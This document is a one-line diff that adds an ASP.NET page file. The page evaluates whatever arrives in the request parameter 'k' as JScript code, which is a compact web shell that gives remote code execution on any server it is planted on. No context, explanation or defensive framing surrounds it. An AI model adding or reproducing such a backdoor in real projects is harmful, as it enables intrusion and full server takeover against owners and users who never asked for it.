@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% Microsoft.JScript.Eval.JScriptEvaluate(Request.Item["k"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine()); %>
